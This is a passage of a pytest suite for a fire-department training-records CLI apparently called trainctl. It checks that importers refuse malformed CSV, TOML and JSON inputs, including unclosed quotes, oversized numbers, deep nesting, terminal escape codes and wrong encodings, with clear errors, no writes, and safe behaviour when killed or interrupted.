    sheet.write_bytes(sep + b"\r\nEmail;Course;Date;Hours\r\nnew@fd.org;Ladder drill;2026-03-04;1\r\n"
                      b"nobody@fd.org;Ladder drill;2026-03-04;1\r\n")  # fmt: skip
    r = enrollable("--as-of", "2026-03-05", "record", "import", str(sheet), "--dry-run", ok=False)
    assert r.exit_code == 65 and "sheet.csv, line 4, field email" in r.stderr, r
    assert "unknown column" not in r.stderr


def test_a_quote_never_closed_is_named_as_one(enrollable, snapshot, tmp_path):
    """An unclosed quote swallows the lines after it into one value: the value's line
    break was called "a control character", which said nothing of the quote."""
    sheet = tmp_path / "sheet.csv"
    sheet.write_text('Date,Course,Badge,Hrs\n2026-03-23,"LAD-1,F-203,1\n2026-03-24,LAD-1,F-203,1\n')
    before = snapshot()
    r = enrollable("--as-of", "2026-04-01", "record", "import", str(sheet), ok=False)
    said = " ".join(r.stderr.split())
    assert r.exit_code == 65 and "line 2, field course: contains a line break (U+000A)" in said, r
    assert "a quote opened in this value and not closed takes in the lines after it" in said
    assert snapshot() == before


# A stray quote in a column no importer reads (a sign-in sheet's Signature, a card's notes,
# a column skipped with --ignore-unknown-columns): (id, args, header, line 2 up to the
# quote, lines 3 and 4 (good rows), the column as the message names it).
QUOTE_IN_AN_UNREAD_COLUMN = [
    ("record import: Signature", ["--as-of", "2026-04-01", "record", "import"],
     "Date,Course,E-mail,Hrs,Signature", "2026-03-04,LAD-1,ann@fd.org,1,",
     "2026-03-05,LAD-1,bo@fd.org,1,B D\r\n2026-03-06,LAD-1,olive@fd.org,1,O O\r\n", "Signature"),
    ("record import: an unknown column", ["--as-of", "2026-04-01", "record", "import", "--ignore-unknown-columns"],
     "Date,Course,E-mail,Hrs,Pager", "2026-03-04,LAD-1,ann@fd.org,1,",
     "2026-03-05,LAD-1,bo@fd.org,1,\r\n2026-03-06,LAD-1,olive@fd.org,1,555\r\n", "Pager"),
    ("cert import: notes", ["--as-of", "2026-04-01", "cert", "import", "--csv"],
     "member,credential,number,issued,expires,notes", "ann@fd.org,EMT,E-1,2025-01-01,2027-01-01,",
     "bo@fd.org,EMT,E-2,2025-01-01,2027-01-01,\r\nolive@fd.org,EMT,E-3,2025-01-01,2027-01-01,ok\r\n", "notes"),
    ("shift import: Initials", ["--as-of", "2026-04-01", "shift", "import", "--csv"],
     "email,shift_date,station,shift,time_in,time_out,Initials",
     "ann@fd.org,2026-03-04,Station 1,A,2026-03-04T07:00-05:00,2026-03-04T19:00-05:00,",
     "bo@fd.org,2026-03-04,Station 1,A,2026-03-04T07:00-05:00,2026-03-04T19:00-05:00,BD\r\n"
     "olive@fd.org,2026-03-04,Station 1,A,2026-03-04T07:00-05:00,2026-03-04T19:00-05:00,OO\r\n", "Initials"),
    ("call import: Remarks", ["--as-of", "2026-04-01", "call", "import", "--csv"],
     "incident,shift_date,at,call_type,member,Remarks", "26-001,2026-03-04,2026-03-04T10:00-05:00,EMS,ann@fd.org,",
     "26-001,2026-03-04,2026-03-04T10:00-05:00,EMS,bo@fd.org,\r\n"
     "26-002,2026-03-05,2026-03-05T10:00-05:00,EMS,bo@fd.org,ok\r\n", "Remarks"),
    ("member import: an unknown column", ["member", "import", "--ignore-unknown-columns", "--csv"],
     "name,email,Pager", "Cy Cole,cy@fd.org,", "Di Dunn,di@fd.org,555\r\nEd Eng,ed@fd.org,\r\n", "Pager"),
    ("enroll bulk: an unknown column", ["enroll", "bulk", "Recruit", "--ignore-unknown-columns", "--csv"],
     "email,Notes", "ann@fd.org,", "bo@fd.org,\r\nolive@fd.org,ok\r\n", "Notes"),
    ("course import: an unknown column", ["course", "import", "--ignore-unknown-columns", "--csv"],
     "code,name,Owner", "X-1,Ladder one,", "X-2,Ladder two,Al\r\nX-3,Ladder three,\r\n", "Owner"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "header", "start", "rest", "column"), [c[1:] for c in QUOTE_IN_AN_UNREAD_COLUMN],
                         ids=[c[0] for c in QUOTE_IN_AN_UNREAD_COLUMN])  # fmt: skip
def test_a_quote_never_closed_in_a_column_nobody_reads_is_refused_like_one_in_a_column_read(
    enrollable, snapshot, tmp_path, args, header, start, rest, column
):
    """The quote took lines 3 and 4 into a cell nobody reads: "1 row read, 1 added", exit
    0, two people's rows gone without a word. Refused as it is in a column read
    (test_a_quote_never_closed_is_named_as_one): its line, its column, nothing written."""
    f = tmp_path / "export.csv"
    f.write_bytes(f'{header}\r\n{start}"A. Lee\r\n{rest}'.encode())
    before = snapshot()
    r = enrollable(*args, str(f), ok=False)
    said = " ".join(r.stderr.split())
    assert r.exit_code == 65, r
    assert f"line 2, field {column}: contains a line break (U+000D)" in said, r
    assert "a quote opened in this value and not closed takes in the lines after it" in said
    assert snapshot() == before
    f.write_bytes(f'{header}\r\n{start}"A. Lee"\r\n{rest}'.encode())  # the quote closed: every row good
    enrollable(*args, str(f), "--dry-run")


NOTE_ON_TWO_LINES = [c for c in QUOTE_IN_AN_UNREAD_COLUMN if not c[0].startswith(("member", "enroll"))]


@pytest.mark.parametrize(("args", "header", "start", "rest", "column"), [c[1:] for c in NOTE_ON_TWO_LINES],
                         ids=[c[0] for c in NOTE_ON_TWO_LINES])  # fmt: skip
def test_a_note_typed_on_two_lines_in_a_column_nobody_reads_is_no_refusal(
    enrollable, tmp_path, args, header, start, rest, column
):
    """Alt+Enter in Excel's Notes cell, its quotes closed: the lines after its first do not
    read as rows (no run of delimiters), so nothing was taken in: every row imports."""
    f = tmp_path / "export.csv"
    f.write_bytes(f'{header}\r\n{start}"left early,\r\nsick"\r\n{rest}'.encode())
    r = enrollable(*args, str(f), "--dry-run")
    assert "contains a line break" not in r.stderr and ("3 rows read" in r.stderr or "would be 3 added" in r.stderr), r.stderr


def test_a_long_list_of_bad_rows_shows_twenty_a_count_and_the_hint_last(cli, tmp_path):
    rows = "".join(f"N{i},bad{i}@x\n" for i in range(302))
    r = _import(cli, tmp_path, ("name,email\n" + rows).encode())
    lines = r.stderr.strip().splitlines()
    assert r.exit_code == 65
    assert lines[0].startswith("Error:") and lines[-1].startswith("Hint:")
    assert lines[-2].strip() == "... and 282 more"
    assert len(lines) == 1 + 20 + 1 + 1


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_a_reader_that_stops_early_is_not_a_failure(cli, db_url, tmp_path, fmt):
    import sys

    roster = tmp_path / "big.csv"
    roster.write_text("name,email\n" + "".join(f"N{i},m{i}@fd.org\n" for i in range(3000)))
    cli("member", "import", "--csv", str(roster))
    env = {**os.environ, "TRAINCTL_DB": str(db_url)}
    env.pop("TRAINCTL_DEBUG", None)
    proc = subprocess.Popen([sys.executable, "-m", "trainctl", "--format", fmt, "member", "list"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)  # fmt: skip
    assert proc.stdout is not None and proc.stdout.readline()
    proc.stdout.close()  # `| head -1`
    assert proc.wait(timeout=60) == 0
    assert b"Traceback" not in proc.stderr.read()


@pytest.fixture
def enrollable(dept):
    """A department with an active program whose requirement has the longest time limit."""
    dept("member", "add", "Bo Day", "--email", "bo@fd.org")
    dept("requirement", "add", "--name", "Drill", "--type", "hours", "--hours", "10", "--time-limit-days", "36500")
    dept("program", "create", "Recruit")
    dept("program", "requirement", "add", "1", "Drill")
    dept("program", "activate", "1")
    return dept


ENROLL_CASES = [
    ("enroll add: --as-of 9999-12-31", ["--as-of", "9999-12-31", "enroll", "add", "ann@fd.org", "Recruit"], "--as-of"),
    ("enroll add: --as-of 0001-01-01", ["--as-of", "0001-01-01", "enroll", "add", "ann@fd.org", "Recruit"], "--as-of"),
    ("enroll add: --target-date 9999-12-31", ["enroll", "add", "ann@fd.org", "Recruit", "--target-date",
                                              "9999-12-31"], "--target-date"),
    ("enroll bulk: --as-of 9999-12-31", ["--as-of", "9999-12-31", "enroll", "bulk", "Recruit", "--members",
                                         "ann@fd.org,bo@fd.org"], "--as-of"),
    ("enroll bulk: --target-date 9999-12-31", ["enroll", "bulk", "Recruit", "--members", "ann@fd.org",
                                               "--target-date", "9999-12-31"], "--target-date"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "flag"), [c[1:] for c in ENROLL_CASES], ids=[c[0] for c in ENROLL_CASES])
def test_enrolling_off_the_calendar_is_refused(enrollable, snapshot, args, flag):
    before = snapshot()
    r = enrollable(*args, ok=False)
    assert r.exit_code == 2, r
    assert "out of range" in r.stderr and flag in r.stderr, r
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before


def test_an_enrollment_csv_target_date_off_the_calendar_is_refused_like_the_flag(
    enrollable, snapshot, tmp_path
):
    # the CSV column and --target-date share one validator (schemas.enrollment.enrollment_day)
    f = tmp_path / "class.csv"
    f.write_text("email,target_date\nann@fd.org,2026-06-01\nbo@fd.org,9999-12-31\n")
    before = snapshot()
    r = enrollable("enroll", "bulk", "Recruit", "--csv", str(f), ok=False)
    assert r.exit_code == 65, r
    assert "line 3" in r.stderr and "target_date" in r.stderr
    assert "9999-12-31 is out of range: enrollments fall between 1900-01-01 and 2199-12-31" in r.stderr
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before
    f.write_text("email,target_date\nann@fd.org,2199-12-31\n")
    enrollable("enroll", "bulk", "Recruit", "--csv", str(f))


def test_the_longest_time_limit_from_the_last_day_still_enrolls(enrollable):
    enrollable("--as-of", "2199-12-31", "enroll", "add", "ann@fd.org", "Recruit")
    enrollable("--as-of", "2199-12-31", "enroll", "bulk", "Recruit", "--members", "bo@fd.org")
    enrollable("--as-of", "2199-12-31", "enroll", "show", "1")


_DEF = '[[requirement_definitions]]\nname = "D"\nrequirement_type = "{t}"\n{f} = {v}\n{extra}'
_LINK = '[[requirements]]\nname = "D"\n'
PROGRAM_FILE_CASES = [
    ("huge sort_order", "f.toml", 'name = "P"\n' + _DEF.format(t="hours", f="required_hours", v=2, extra="")
     + _LINK + f"sort_order = {BIG}\n", "field requirements.0.sort_order"),
    ("huge version", "f.toml", f'name = "P"\nversion = {BIG}\n', "field version"),
    ("version 10**12", "f.toml", f'name = "P"\nversion = {10**12}\n', "field version"),
    ("required_hours = inf", "f.toml", 'name = "P"\n' + _DEF.format(t="hours", f="required_hours", v="inf",
                                                                     extra="") + _LINK,
     "field requirement_definitions.0.required_hours"),
    ("required_hours = nan", "f.toml", 'name = "P"\n' + _DEF.format(t="hours", f="required_hours", v="nan",
                                                                     extra="") + _LINK,
     "field requirement_definitions.0.required_hours"),
    ("required_hours = 1e300", "f.toml", 'name = "P"\n' + _DEF.format(t="hours", f="required_hours", v="1e300",
                                                                       extra="") + _LINK,
     "field requirement_definitions.0.required_hours"),
    ("huge required_shifts", "f.toml", 'name = "P"\n' + _DEF.format(t="shifts", f="required_shifts", v=BIG,
                                                                     extra="") + _LINK,
     "field requirement_definitions.0.required_shifts"),
    ("huge required_calls", "f.toml", 'name = "P"\n' + _DEF.format(t="calls", f="required_calls", v=10**9,
                                                                    extra="") + _LINK,
     "field requirement_definitions.0.required_calls"),
    ("huge period_months", "f.toml", 'name = "P"\n' + _DEF.format(t="hours", f="period_months", v=BIG,
                                                                   extra='required_hours = 2\nfrequency = "rolling"\n')
     + _LINK, "field requirement_definitions.0.period_months"),
    ("huge time_limit_days", "f.toml", 'name = "P"\ntime_limit_days = 5000000\n', "field time_limit_days"),
    ("huge warning_days_before", "f.toml", f'name = "P"\nwarning_days_before = {BIG}\n',
     "field warning_days_before"),
    ("huge reminder lead days", "f.toml", f'name = "P"\n[reminder_conditions]\nlead_days = [{BIG}]\n',
     "field reminder_conditions.lead_days.0"),
    ("10,000 nested arrays (TOML)", "f.toml", 'name = "P"\nx = ' + "[" * 10_000 + "]" * 10_000 + "\n",
     "nested too deeply"),
    ("10,000 nested lists (JSON)", "f.json", '{"name": "P", "x": ' + "[" * 10_000 + "]" * 10_000 + "}",
     "nested too deeply"),
    ("a 4,301-digit version (TOML)", "f.toml", f'name = "P"\nversion = {HUGE}\n', "a number has more than 4,300 digits"),
    ("a 4,301-digit version (JSON)", "f.json", f'{{"name": "P", "version": {HUGE}}}', "a number has more than 4,300 digits"),
    ("a key twice (JSON)", "f.json", '{"name": "X", "name": "Y", "version": 1}', "the key 'name' is given twice"),
    ("a key twice (TOML)", "f.toml", 'name = "X"\nname = "Y"\n', "not valid TOML"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "body", "text"), [c[1:] for c in PROGRAM_FILE_CASES],
                         ids=[c[0] for c in PROGRAM_FILE_CASES])  # fmt: skip
def test_hostile_program_files(dept, snapshot, tmp_path, name, body, text):
    f = tmp_path / name
    f.write_text(body)
    before = snapshot()
    r = dept("program", "apply", "--file", str(f), ok=False)
    assert r.exit_code == 65, r
    assert text in r.stderr and name in r.stderr, r
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before


def _registry(field: str, value: str, rtype: str = "shifts", **extra: object) -> str:
    import json

    entry: dict[str, object] = {
        "name": "X", "description": "d", "registry_code": "X-1", "requirement_type": rtype, "frequency": "annual",
        "required_positions": [], "is_editable": False, "source": "national", "source_document": "Std 1",
        "aliases": [], **extra,
    }  # fmt: skip
    entry.pop(field, None)
    text = json.dumps({"registry": "R", "description": "d", "edition": "1", "sources": ["https://x.org"],
                       "requirements": [entry]})  # fmt: skip
    return text.replace('"requirements": [{', f'"requirements": [{{"{field}": {value}, ', 1)


REGISTRY_FILE_CASES = [
    ("required_shifts beyond 64 bits", _registry("required_shifts", BIG), "entry 1 (X-1), field required_shifts"),
    ("required_calls beyond 64 bits", _registry("required_calls", BIG, "calls"), "entry 1 (X-1), field required_calls"),
    ("required_hours beyond 64 bits", _registry("required_hours", BIG, "hours"), "entry 1 (X-1), field required_hours"),
    ("required_hours 1e400", _registry("required_hours", "1e400", "hours"), "entry 1 (X-1), field required_hours"),
    ("period_months beyond 64 bits", _registry("period_months", BIG, required_shifts=5, frequency="rolling"),
     "entry 1 (X-1), field period_months"),
    ("time_limit_days beyond 64 bits", _registry("time_limit_days", BIG, required_shifts=5),
     "entry 1 (X-1), field time_limit_days"),
    ("required_shifts 1e20", _registry("required_shifts", "1e20"), "entry 1 (X-1), field required_shifts"),
    ("10,000 nested lists", '{"registry": "R", "requirements": ' + "[" * 10_000 + "]" * 10_000 + "}",
     "nested too deeply"),
    ("500 nested lists in a name", '{"registry": "R", "requirements": [{"name": ' + "[" * 500 + "]" * 500 + "}]}",
     "entry 1"),
    ("required_shifts of 4,301 digits", _registry("required_shifts", HUGE), "a number has more than 4,300 digits"),
    ("a key twice", _registry("required_shifts", "5").replace('"requirements": [{', '"requirements": [{"required_shifts": 6, ', 1),
     "the key 'required_shifts' is given twice"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "text"), [c[1:] for c in REGISTRY_FILE_CASES],
                         ids=[c[0] for c in REGISTRY_FILE_CASES])  # fmt: skip
def test_hostile_registry_files(dept, snapshot, tmp_path, body, text):
    f = tmp_path / "reg.json"
    f.write_text(body)
    before = snapshot()
    r = dept("import", "registry", str(f), ok=False)
    assert r.exit_code == 65, r
    assert text in r.stderr and "reg.json" in r.stderr, r
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before


def test_a_registry_entry_at_the_bounds_imports(dept, tmp_path):
    f = tmp_path / "reg.json"
    f.write_text(_registry("required_shifts", "100000"))
    dept("import", "registry", str(f))


def test_deeply_nested_reminders_are_refused(dept, snapshot):
    dept("program", "create", "Q")
    before = snapshot()
    r = dept("program", "edit", "Q", "--reminders", "[" * 10_000, ok=False)
    assert r.exit_code == 65 and "--reminders" in r.stderr, r
    assert snapshot() == before


def test_kill_9_mid_record_import_leaves_nothing_or_everything(cli, tmp_path, db_path):
    """A sign-in sheet import killed at any point (a real process, kill -9) leaves either none
    of its records and credits or all of them (one transaction) and a clean `db check`;
    importing the sheet again then completes it, crediting each record once."""
    import shutil
    import signal
    import sqlite3
    import sys
    import time

    members = 150
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\n" + "".join(f"M {i},m{i}@fd.org\n" for i in range(members)))
    cli("member", "import", "--csv", roster)
    cli("course", "add", "--name", "Drill", "--code", "DRL")
    cli("requirement", "add", "--name", "Drill hours", "--type", "hours", "--hours", "2000", "--counts-course", "DRL")
    cli("requirement", "add", "--name", "Drill course", "--type", "courses", "--course", "DRL")
    cli("program", "create", "Duty")
    cli("program", "requirement", "add", "1", "Drill hours")
    cli("program", "requirement", "add", "1", "Drill course")
    cli("program", "activate", "1")
    cli("--as-of", "2026-01-01", "enroll", "bulk", "Duty", "--members", ",".join(f"m{i}@fd.org" for i in range(members)))
    days = 80
    sheet = tmp_path / "year.csv"
    sheet.write_text("email,course,date,hours\n" + "".join(
        f"m{i}@fd.org,DRL,2026-{d // 28 + 3:02d}-{d % 28 + 1:02d},2\n" for d in range(days) for i in range(members)
    ))  # fmt: skip
    rows = members * days
    base = tmp_path / "base.db"
    shutil.copy(db_path, base)

    def counts(db: Path) -> tuple[int, int]:
        con = sqlite3.connect(db)
        try:
            return (con.execute("SELECT count(*) FROM training_record").fetchone()[0],
                    con.execute("SELECT count(*) FROM progress_credit").fetchone()[0])  # fmt: skip
        finally:
            con.close()

    env = {k: v for k, v in os.environ.items() if k != "TRAINCTL_DEBUG"}

    def command(db: Path) -> list[str]:
        return [sys.executable, "-m", "trainctl", "--db", str(db), "--as-of", "2026-12-31",
                "record", "import", str(sheet)]  # fmt: skip

    # killed at a share of what a whole import takes on this machine now (fixed delays miss
    # every run once writes get faster): start, reading, the transaction
    whole = tmp_path / "whole.db"
    shutil.copy(base, whole)
    t0 = time.monotonic()
    subprocess.run(command(whole), env=env, check=True, capture_output=True)
    took = time.monotonic() - t0
    killed = 0
    for n, share in enumerate((0.45, 0.7, 0.9)):
        db = tmp_path / f"k{n}.db"
        shutil.copy(base, db)
        cmd = command(db)
        delay = share * took
        proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
            killed += 1
        proc.wait(60)
        got = counts(db)
        assert got in ((0, 0), (rows, 2 * rows)), got
        check = subprocess.run([sys.executable, "-m", "trainctl", "--db", str(db), "db", "check"],
                               env=env, capture_output=True, text=True)  # fmt: skip
        assert check.returncode == 0, check.stderr
        again = subprocess.run(cmd, env=env, capture_output=True, text=True)
        assert again.returncode == 0, again.stderr
        assert counts(db) == (rows, 2 * rows)  # the next run completes it, crediting once
    assert killed  # at least one run was cut short


HEADER_ONLY = [
    ("member import", ["member", "import", "--csv"], b"name,email\r\n"),
    ("enroll bulk", ["enroll", "bulk", "1", "--csv"], b"badge,name,target_date\n\n"),
    ("record import", ["record", "import"], b"Date,Course,E-mail,Hrs,Signature\n"),
    ("record import --csv", ["record", "import", "--csv"], b"Date,Course,E-mail,Hrs,Signature\n"),
    ("cert import", ["cert", "import", "--csv"], b"member,code,issued_on,expires_on\n"),
    ("course import", ["course", "import", "--csv"], b"\xef\xbb\xbfcode;name;training_type\n"),
    ("shift import", ["shift", "import", "--csv"], b"email,shift_date,station,shift,time_in,time_out\n"),
    ("call import", ["call", "import", "--csv"], b"incident,shift_date,at,call_type,member\n"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "body"), [c[1:] for c in HEADER_ONLY], ids=[c[0] for c in HEADER_ONLY])
def test_a_file_with_a_header_and_no_rows_is_refused_by_name(enrollable, snapshot, tmp_path, args, body):
    """The wrong tab of a workbook, or a sign-in sheet saved before anyone signed it: not
    '0 rows read, 0 added' and exit 0, which reads like success at 11 pm."""
    f = tmp_path / "export.csv"
    f.write_bytes(body)
    before = snapshot()
    r = enrollable(*args, str(f), ok=False)
    assert r.exit_code == 65, r
    assert "export.csv has column names and no rows under them" in r.stderr, r
    assert "the wrong tab" in r.stderr and r.stderr.count("othing was imported") <= 1, r
    assert snapshot() == before


@pytest.mark.parametrize("body", [b",\n,\n", b";;;\r\n\t\n"], ids=["commas", "semicolons"])
@pytest.mark.parametrize("args", [c[1] for c in HEADER_ONLY], ids=[c[0] for c in HEADER_ONLY])
def test_a_file_of_separators_only_is_refused_as_empty(enrollable, snapshot, tmp_path, args, body):
    """A sheet whose lines hold only separators (",,," saved from an emptied worksheet) has
    no header: the sign-in sheet imports ended in exit 70 (StopIteration: they asked the
    reader for a header it never gave), while `member import` said "is empty"."""
    f = tmp_path / "export.csv"
    f.write_bytes(body)
    before = snapshot()
    for extra in ((), ("--dry-run",)):
        r = enrollable(*args, str(f), *extra, ok=False)
        assert r.exit_code == 65, r
        assert "export.csv is empty" in r.stderr and "must name the columns" in r.stderr, r
    assert snapshot() == before



def test_a_huge_value_is_named_by_its_start_and_length_not_printed_back(dept, snapshot, tmp_path):
    before = snapshot()
    r = _import(dept, tmp_path, b"name,email\n" + b"A" * 100_000 + b",a@fd.org\n")
    assert r.exit_code == 65, r
    assert "line 2, field name: must be at most 200 characters (got 'AAAA" in r.stderr, r.stderr[:500]
    assert "(100,000 characters))" in r.stderr and len(r.stderr) < 1000, r.stderr[:500]
    assert snapshot() == before


def test_a_course_row_with_values_under_no_column_is_refused(enrollable, snapshot, tmp_path):
    """An unquoted '1,5' in a comma file is two cells: the values after it moved one field
    on (credit 1 h, expiration 5 months) and the last one was dropped, exit 0. Refused now,
    as record, cert and shift imports refuse it."""
    f = tmp_path / "courses.csv"
    f.write_text(
        "code,name,training_type,category,duration_hours,credit_hours,expiration_months,self_paced\n"
        "X-1,Test,drill,ems,2,1,5,,no\n"
    )
    before = snapshot()
    r = enrollable("course", "import", "--csv", str(f), ok=False)
    assert r.exit_code == 65, r
    assert "courses.csv, line 2: 'no' under no column" in r.stderr, r.stderr
    assert snapshot() == before


_INTERRUPT = """
import sys
from trainctl.cli import render, state
def interrupt(*args, **kwargs):
    raise KeyboardInterrupt
if sys.argv[1] == "after":
    render.info = interrupt  # "Added member ...": printed after the commit
else:
    state._note_actor = interrupt  # inside the write transaction
from trainctl.cli.main import main
sys.argv = ["trainctl", "--db", sys.argv[2], "member", "add", "Ann Lee", "--email", "ann@fd.org"]
main()
"""


@pytest.mark.parametrize(
    ("when", "says", "rows"),
    [
        ("after", "Interrupted after the changes were saved: they are in the database", 1),
        ("before", "Interrupted before the changes were saved: nothing was written.", 0),
    ],
)
def test_ctrl_c_says_whether_the_changes_were_saved(tmp_path, when, says, rows):
    """Ctrl-C after a bulk enrollment had committed exited 130 with nothing said, which
    reads as a failure at 11 pm; before the commit nothing is written, and it says so.
    A real process (the interrupt raised where a keypress would land)."""
    import sqlite3
    import sys

    db = tmp_path / "t.db"
    subprocess.run([sys.executable, "-m", "trainctl", "--db", str(db), "member", "list"], check=True,
                   capture_output=True)  # fmt: skip
    r = subprocess.run([sys.executable, "-c", _INTERRUPT, when, str(db)], capture_output=True, text=True)
    assert r.returncode == 130, r
    assert says in r.stderr and "Traceback" not in r.stderr, r.stderr
    with sqlite3.connect(db) as con:
        assert con.execute("SELECT count(*) FROM member").fetchone() == (rows,)



_INTERRUPT_LOADING = """
import sys
MODULE = sys.argv[1]
class Interrupt:  # Ctrl-C pressed while Python loads a module trainctl needs
    def find_spec(self, name, path=None, target=None):
        if name == MODULE:
            raise KeyboardInterrupt
sys.meta_path.insert(0, Interrupt())
sys.argv = ["trainctl", "member", "list"]
from trainctl.__main__ import run
run()
"""


@pytest.mark.parametrize("module", ["typer", "trainctl.cli.member"])
def test_ctrl_c_while_trainctl_loads_is_one_line_not_a_traceback(tmp_path, module):
    """Ctrl-C in the first fifth of a second after Enter (Python still importing Typer, or
    the command's module) printed a 30-line traceback of whichever import it landed in,
    exit -2; now, as inside a command: "Interrupted.", exit 130. The `trainctl` script
    runs the same function as `python -m trainctl`."""
    import sys
    import tomllib

    env = {**os.environ, "TRAINCTL_DB": str(tmp_path / "t.db")}
    r = subprocess.run([sys.executable, "-c", _INTERRUPT_LOADING, module], capture_output=True, text=True,
                       env=env)  # fmt: skip
    assert r.returncode == 130, r
    assert r.stderr == "Interrupted.\n", r.stderr
    project = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
    assert project["project"]["scripts"]["trainctl"] == "trainctl.__main__:run"


def test_record_import_takes_its_sheets_as_the_other_imports_do(enrollable, snapshot, tmp_path):
    """`record import` took sheets as arguments only; every other import takes `--csv FILE`
    and an officer types it from habit. Both work (together too); neither is refused by
    name, nothing written."""
    sheets = []
    for day in ("2026-03-04", "2026-03-05"):
        f = tmp_path / f"drill-{day}.csv"
        f.write_text(f"email,course,date,hours,type\nann@fd.org,Drill,{day},2,drill\n")
        sheets.append(f)
    before = snapshot()
    r = enrollable("record", "import", ok=False)
    assert r.exit_code == 2 and "Name the sign-in sheets: FILE... or --csv FILE." in r.stderr, r
    assert snapshot() == before
    r = enrollable("--as-of", "2026-04-01", "record", "import", str(sheets[0]), "--csv", str(sheets[1]))
    assert "2 rows read, 2 added" in r.stderr, r


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("LAD-1", "LAD-1"),
        ("LAD-1\u200b", "LAD-1"),  # a zero-width space pasted after it
        ("\ufeffLAD\u20111", "LAD-1"),  # a BOM, a non-breaking hyphen
        ("F\u2010118", "F-118"),  # Word's hyphen
        ("F\u2013118", "F-118"),  # an en dash
        ("ＬＡＤ－１", "LAD-1"),  # full-width
        ("Zoë", "Zoë"),  # letters are letters
    ],
)
def test_a_code_is_read_without_invisible_characters_or_typographic_dashes(typed, read):
    from trainctl.domain.text import code_text

    assert code_text(typed) == read


def test_codes_pasted_with_invisible_characters_find_what_they_name(dept, tmp_path):
    """'LAD-1' + U+200B was kept as a free course name no requirement counts, 'CPR-BLS' +
    U+200B as a credential nothing names (with a 'did you mean CPR-BLS?' that looked the
    same), 'F‐118' (U+2010) as no member's badge (review). Codes are read as they look."""
    dept("member", "add", "Lee Park", "--email", "lee@fd.org", "--badge", "F-118")
    dept("course", "add", "--code", "LAD-1", "--name", "Ladder drill", "--hours", "1.5")
    sheet = tmp_path / "zw.csv"
    sheet.write_text("Date,Course,Badge,Hours\n2026-05-03,LAD-1\u200b,F\u2010118,1\n", encoding="utf-8")
    r = dept("--as-of", "2026-06-01", "record", "import", str(sheet))
    assert "1 row read, 1 added" in r.stderr and "not in the course catalog" not in r.stderr, r.stderr
    rec = dept("--format", "json", "record", "list", "--member", "F-118").json
    assert [(x["course_code"], x["member"]) for x in rec] == [("LAD-1", "Lee Park")]
    dept("--as-of", "2026-06-01", "cert", "add", "F-118", "CPR-BLS\u200b", "--issued", "2026-05-01")
    cards = dept("--format", "json", "cert", "list", "--member", "F-118").json
    assert [c["credential_code"] for c in cards] == ["CPR-BLS"], cards


def test_a_registry_code_with_an_escape_is_named_escaped(dept, snapshot, tmp_path):
    """Review: the entry's label printed its code raw (the ESC sequence cleared the screen)
    before the escaped "got" part."""
    f = tmp_path / "reg.json"
    f.write_text(_registry("registry_code", '"NR\\u001b[2J\\u001b[31mEMR"', required_shifts=5))
    before = snapshot()
    r = dept("import", "registry", str(f), ok=False)
    assert r.exit_code == 65 and "\x1b" not in r.stderr, r
    assert "entry 1 ('NR\\x1b[2J\\x1b[31mEMR')" in r.stderr, r.stderr
    assert snapshot() == before


def test_a_huge_member_cell_of_a_sheet_is_named_by_its_start_and_length(dept, snapshot, tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("badge,course,date,hours\n" + "9" * 100_000 + ",Drill,2026-03-04,1\n")
    before = snapshot()
    r = dept("--as-of", "2026-12-31", "record", "import", str(sheet), ok=False)
    assert r.exit_code == 65 and "(100,000 characters)" in r.stderr and len(r.stderr) < 1000, r.stderr[:500]
    assert snapshot() == before


def test_a_4301_digit_id_in_an_enrollment_csv_is_a_refused_row(enrollable, snapshot, tmp_path):
    f = tmp_path / "ids.csv"
    f.write_text(f"id\n{HUGE}\n")
    before = snapshot()
    r = enrollable("enroll", "bulk", "Recruit", "--csv", str(f), ok=False)
    # refused as a cell too long for a reference (the enrollment file's cells are checked as
    # a sign-in sheet's are), before any lookup
    assert r.exit_code == 65 and "line 2, field id: is 4,301 characters long" in r.stderr, r
    assert "failed unexpectedly" not in r.stderr
    assert snapshot() == before


def test_hour_categories_from_a_utf16_file_are_refused_as_not_utf8(dept, snapshot, tmp_path):
    f = tmp_path / "hc.json"
    f.write_text('[{"name": "a", "min_hours": 1}]', encoding="utf-16")
    before = snapshot()
    r = dept("requirement", "add", "--name", "H", "--type", "hours", "--hours", "5",
             "--hour-categories", f"@{f}", ok=False)  # fmt: skip
    assert r.exit_code == 65, r
    assert f"{f}: the file looks like UTF-16, not UTF-8" in r.stderr, r
    assert "Save the file as UTF-8" in r.stderr
    assert snapshot() == before


def test_a_utf16_program_file_is_refused_as_not_utf8(dept, snapshot, tmp_path):
    f = tmp_path / "p.toml"
    f.write_text('name = "P"\n', encoding="utf-16")
    before = snapshot()
    r = dept("program", "apply", "--file", str(f), ok=False)
    assert r.exit_code == 65, r
    assert f"{f}: the file looks like UTF-16, not UTF-8" in r.stderr, r
    f.write_bytes(b'name = "Caf\xe9"\n')  # Latin-1 (Excel on Windows)
    r = dept("program", "apply", "--file", str(f), ok=False)
    assert r.exit_code == 65 and f"{f}, line 1: the file is not UTF-8 (byte 0xe9)" in r.stderr, r
    assert snapshot() == before


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize(
    "command",
    [["member", "import", "--csv", "/dev/zero"],
     ["enroll", "bulk", "Academy", "--csv", "/dev/zero"],
     ["import", "registry", "/dev/zero"],
     ["program", "apply", "--file", "/dev/zero"],
     ["requirement", "add", "--name", "R", "--type", "hours", "--hours", "1", "--counts-type", "drill",
      "--hour-categories", "@/dev/zero"]],
    ids=["member import", "enroll bulk", "import registry", "program apply", "hour-categories @FILE"],
)  # fmt: skip
